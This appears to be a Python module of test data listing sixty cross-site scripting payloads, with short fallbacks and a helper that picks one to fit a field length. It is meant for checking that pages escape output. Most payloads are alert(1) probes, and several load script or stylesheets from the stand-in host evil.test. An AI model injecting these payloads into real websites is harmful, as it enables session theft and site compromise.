"""Sixty texts that would run as a script if any page wrote one of them unescaped."""

from __future__ import annotations

# The browser test listens for the call that a running payload makes, the reading test looks for its traces.
_ELEMENTS = (
    "<script>alert(1)</script>",
    "<script src=//evil.test/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\n>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script>alert`1`</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    "<img/src='x'/onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x:x onerror=alert(1)",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import'//evil.test/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<div hx-get=/ hx-trigger=load hx-on::load=alert(1)>x</div>",
    "<div hx-on:click=alert(1) data-hx-get=/>x</div>",
    "<div style=background:url(//evil.test/x)>x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)

_BREAKOUTS = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    '" autofocus onfocus=alert(1) x="',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{ constructor.constructor('alert(1)')() }}",
    "{% load l10n %}<script>alert(1)</script>",
)

PAYLOADS = _ELEMENTS + _BREAKOUTS

# For columns that are too short for any of the sixty.
SHORT = ('"><b onclick=a>', "<b onclick=a>", "'\"><q7>")


def payload(number: int, longest: int | None) -> str:
    """The `number`-th payload that fits into `longest` characters."""
    fitting = [each for each in PAYLOADS if longest is None or len(each) <= longest]
    chosen = fitting or [each for each in SHORT if longest is None or len(each) <= longest] or ["<b>"]
    return chosen[number % len(chosen)]
